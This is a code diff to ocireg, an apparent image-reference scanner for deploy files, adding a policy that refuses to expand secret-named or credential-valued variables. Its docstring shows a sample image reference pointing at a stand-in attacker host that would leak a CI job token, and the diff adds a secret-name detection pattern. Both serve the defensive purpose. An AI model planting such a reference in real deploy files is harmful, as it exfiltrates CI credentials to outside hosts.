@@ -25,6 +25,12 @@ Variables (``$VAR``, ``${VAR}``, ``${VAR:-default}`` ...) are expanded from a lo
 CLI passes its environment; compose files also see their ``.env``; GitLab CI files their ``variables:``;
 Dockerfiles their global ``ARG`` defaults). A reference that stays unresolved is reported as skipped with the
 reason, never guessed.
+
+A deploy file may come from a merge request, so expansion is guarded by a :class:`VariablePolicy`: a variable
+whose name marks a secret (``*TOKEN*``, ``*PASSWORD*`` ...) or whose value is (or contains) a credential ocireg
+holds is never expanded, unless the user allows it by name; such a reference is skipped with the reason and
+nothing is sent. Otherwise ``image: attacker.example:5000/x:${CI_JOB_TOKEN}`` would send the job token to that
+host in the request path (and print it). The rule is in SECURITY.md, section 14.
 """
 
 from __future__ import annotations
@@ -47,10 +53,12 @@ __all__ = [
     "Finding",
     "Scan",
     "Target",
+    "VariablePolicy",
     "discover",
     "expand_variables",
     "file_kind",
     "find_in_text",
+    "names_secret",
     "scan_paths",
 ]
 
@@ -113,6 +121,54 @@ class FileProblem:
     message: str
 
 
+# Names that mark a secret (case-insensitive, anywhere in the name): what GitLab and most CI systems call their
+# credentials — CI_JOB_TOKEN, CI_REGISTRY_PASSWORD, CI_JOB_JWT_V2, DOCKER_AUTH_CONFIG, *_API_KEY, ... .
+_SECRET_NAME = re.compile(
+    r"PASSWORD|PASSWD|TOKEN|SECRET|_AUTH|^AUTH_|KEY|CREDENTIAL|JWT|^DOCKER_AUTH_CONFIG$", re.IGNORECASE
+)
+# A held credential at least this long is also refused when a value merely contains it ("v1-<token>").
+MIN_CONTAINED_SECRET = 8
+
+
+def names_secret(name: str) -> bool:
+    """Whether a variable name marks a secret (``*PASSWORD*``, ``*TOKEN*``, ``*SECRET*``, ``*_AUTH*``,
+    ``*KEY*``, ``*CREDENTIAL*``, ``*JWT*`` ...), so that a deploy file may not expand it without permission."""
+    return _SECRET_NAME.search(name) is not None
+
+
+@dataclass(frozen=True)
+class VariablePolicy:
+    """Which variables a deploy file may expand.
+
+    ``allow``: names the user allowed explicitly (they are expanded whatever their name or value);
+    ``secrets``: credential values ocireg holds — a variable whose value equals one (or contains one of at
+    least :data:`MIN_CONTAINED_SECRET` characters) is not expanded. The default policy refuses secret names
+    and knows no values.
+    """
+
+    allow: frozenset[str] = frozenset()
+    secrets: frozenset[str] = frozenset()
+
+    def refusal(self, name: str, value: str | None) -> str | None:
+        """Why ``name`` (with ``value``) must not be expanded, or ``None``. Never shows the value."""
+        if name in self.allow:
+            return None
+        if names_secret(name):
+            return (
+                f"${name} names a secret and is not expanded in deploy files "
+                f"(allow it with --allow-env {name} if it is not one)"
+            )
+        if value and any(
+            value == secret or (len(secret) >= MIN_CONTAINED_SECRET and secret in value)
+            for secret in self.secrets
+        ):
+            return (
+                f"the value of ${name} is a credential ocireg holds and is not expanded in deploy files "
+                f"(allow it with --allow-env {name})"
+            )
+        return None
+
+
 @dataclass
 class Scan:
     """Everything found under some paths."""
@@ -121,6 +177,8 @@ class Scan:
     problems: list[FileProblem] = field(default_factory=list)
     files: list[str] = field(default_factory=list)
     texts: dict[str, str] = field(default_factory=dict)
+    policy: VariablePolicy = field(default_factory=VariablePolicy)
+    """The variable policy the files were read with (``pin`` reads its rewritten text with the same one)."""
 
 
 # --------------------------------------------------------------------------------------------------------------
@@ -240,6 +298,23 @@ def expand_variables(text: str, lookup: Lookup, *, dollar_escape: bool = True) -
     )
 
 
+class _Refused(Exception):
+    def __init__(self, reason: str) -> None:
+        super().__init__(reason)
+        self.reason = reason
+
+
+def _guarded(lookup: Lookup, policy: VariablePolicy) -> Lookup:
+    def guarded(name: str) -> str | None:
+        value = lookup(name)
+        reason = policy.refusal(name, value)
+        if reason is not None:
+            raise _Refused(reason)
+        return value
+
+    return guarded
+
+
 def _chain(*lookups: Lookup) -> Lookup:
     def lookup(name: str) -> str | None:
         for one in lookups:
@@ -255,11 +330,16 @@ def _from_mapping(values: Mapping[str, str]) -> Lookup:
     return values.get
 
 
-def _resolve(raw: str, lookup: Lookup, *, dollar_escape: bool = True) -> tuple[str | None, str | None, bool]:
+def _resolve(
+    raw: str, lookup: Lookup, policy: VariablePolicy, *, dollar_escape: bool = True
+) -> tuple[str | None, str | None, bool]:
     """(expanded text or None, skip reason, had variables)."""
     if "{{" in raw or "}}" in raw:
         return None, "template expression ({{ ... }}) is not resolved by ocireg", True
-    expansion = expand_variables(raw, lookup, dollar_escape=dollar_escape)
+    try:
+        expansion = expand_variables(raw, _guarded(lookup, policy), dollar_escape=dollar_escape)
+    except _Refused as refused:
+        return None, refused.reason, True
     if expansion.message:
         return None, f"required variable not set ({expansion.message})", True
     if expansion.missing:
@@ -379,13 +459,21 @@ def _dotenv(path: str) -> dict[str, str]:
     return values
 
 
-def scan_paths(paths: Sequence[str], env: Mapping[str, str], *, strict_files: bool = True) -> Scan:
+def scan_paths(
+    paths: Sequence[str],
+    env: Mapping[str, str],
+    *,
+    strict_files: bool = True,
+    policy: VariablePolicy | None = None,
+) -> Scan:
     """Find every image reference under ``paths``.
 
     Files that cannot be read or parsed become :class:`FileProblem`; with ``strict_files`` False, problems in
     files found by walking a directory are kept apart by the caller as warnings (see ``Scan.problems``).
+    ``policy`` guards variable expansion (default: secret names refused, see :class:`VariablePolicy`).
     """
-    scan = Scan()
+    policy = policy if policy is not None else VariablePolicy()
+    scan = Scan(policy=policy)
     files, problems = discover(paths)
     scan.problems.extend(problems)
     for path in files:
@@ -397,7 +485,7 @@ def scan_paths(paths: Sequence[str], env: Mapping[str, str], *, strict_files: bo
         scan.files.append(path)
         scan.texts[path] = text
         try:
-            scan.findings.extend(find_in_text(path, text, env))
+            scan.findings.extend(find_in_text(path, text, env, policy=policy))
         except _ParseProblem as exc:
             scan.problems.append(FileProblem(path, exc.line, exc.message))
     return scan
@@ -410,18 +498,27 @@ class _ParseProblem(Exception):
         self.line = line
 
 
-def find_in_text(path: str, text: str, env: Mapping[str, str], *, kind: str | None = None) -> list[Finding]:
+def find_in_text(
+    path: str,
+    text: str,
+    env: Mapping[str, str],
+    *,
+    kind: str | None = None,
+    policy: VariablePolicy | None = None,
+) -> list[Finding]:
     """All image references in ``text`` (the content of ``path``), in file order.
 
     ``kind`` forces ``dockerfile``, ``gitlab-ci`` or ``yaml``; by default it comes from the file name.
+    ``policy`` guards variable expansion (default: secret names refused, see :class:`VariablePolicy`).
     Raises ``_ParseProblem`` (internal) for YAML that does not parse.
     """
     kind = kind or file_kind(path) or "yaml"
     lookup = _from_mapping(env)
+    policy = policy if policy is not None else VariablePolicy()
     if kind == "dockerfile":
-        findings = list(_dockerfile(path, text, lookup))
+        findings = list(_dockerfile(path, text, lookup, policy))
     else:
-        findings = list(_yaml(path, text, lookup, gitlab=kind == "gitlab-ci"))
+        findings = list(_yaml(path, text, lookup, policy, gitlab=kind == "gitlab-ci"))
     findings.sort(key=lambda f: (f.line, f.column))
     return findings
 
@@ -554,8 +651,9 @@ def _value_span(text: str, node: Any) -> tuple[int, int, str | None]:
 class _YamlDoc:
     """Walks one composed YAML document and yields findings."""
 
-    def __init__(self, path: str, text: str, lines: _Lines, lookup: Lookup) -> None:
+    def __init__(self, path: str, text: str, lines: _Lines, lookup: Lookup, policy: VariablePolicy) -> None:
         self.path = path
+        self.policy = policy
         self.text = text
         self.lines = lines
         self.lookup = lookup
@@ -575,7 +673,9 @@ class _YamlDoc:
         self.seen.add(id(node))
         start, end, why_not = _value_span(self.text, node)
         line, column = self.lines.position(start)
-        resolved, skipped, had_vars = _resolve(raw, lookup or self.lookup, dollar_escape=kind != "kubernetes")
+        resolved, skipped, had_vars = _resolve(
+            raw, lookup or self.lookup, self.policy, dollar_escape=kind != "kubernetes"
+        )
         target = None
         not_pinnable = why_not
         if why_not is None:
@@ -745,7 +845,7 @@ class _YamlDoc:
                 None,
                 "image.tag is empty (the chart's appVersion is used); set it to check this image",
             )
-        resolved, skipped, had_vars = _resolve(raw, self.lookup)
+        resolved, skipped, had_vars = _resolve(raw, self.lookup, self.policy)
         target: Target | None = None
         why_not: str | None = None
         if digest_node is not None and _is_scalar(digest_node):
@@ -822,7 +922,7 @@ class _YamlDoc:
                 None,
                 "no newTag or digest: the tag comes from the resources; check those files instead",
             )
-        resolved, skipped, had_vars = _resolve(raw, self.lookup)
+        resolved, skipped, had_vars = _resolve(raw, self.lookup, self.policy)
         target: Target | None = None
         why_not: str | None
         if fields["digest"] is not None and _is_scalar(fields["digest"]):
@@ -860,7 +960,7 @@ def _looks_like_gitlab(root: Any) -> bool:
     return False
 
 
-def _yaml(path: str, text: str, lookup: Lookup, *, gitlab: bool) -> Iterator[Finding]:
+def _yaml(path: str, text: str, lookup: Lookup, policy: VariablePolicy, *, gitlab: bool) -> Iterator[Finding]:
     from ruamel.yaml import YAML
     from ruamel.yaml.error import MarkedYAMLError, YAMLError
 
@@ -879,7 +979,7 @@ def _yaml(path: str, text: str, lookup: Lookup, *, gitlab: bool) -> Iterator[Fin
     for root in documents:
         if root is None or not _is_map(root):
             continue
-        walker = _YamlDoc(path, text, lines, lookup)
+        walker = _YamlDoc(path, text, lines, lookup, policy)
         names = {name for name, _ in _items(root)}
         if gitlab:
             yield from walker.gitlab(root)
@@ -980,7 +1080,7 @@ def _arg_value(text: str) -> str:
     return text
 
 
-def _dockerfile(path: str, text: str, lookup: Lookup) -> Iterator[Finding]:
+def _dockerfile(path: str, text: str, lookup: Lookup, policy: VariablePolicy) -> Iterator[Finding]:
     lines = _Lines(text)
     global_args: dict[str, str | None] = {}
     stages: set[str] = set()
@@ -999,7 +1099,7 @@ def _dockerfile(path: str, text: str, lookup: Lookup) -> Iterator[Finding]:
         if raw.lower() == "scratch" or raw.lower() in stages:
             return None
         line, column = lines.position(word.start)
-        resolved, skipped, had_vars = _resolve(raw, arg_lookup, dollar_escape=False)
+        resolved, skipped, had_vars = _resolve(raw, arg_lookup, policy, dollar_escape=False)
         if resolved is not None and (resolved.lower() == "scratch" or resolved.lower() in stages):
             return None
         target = Target(word.start, word.end, raw) if word.contiguous else None
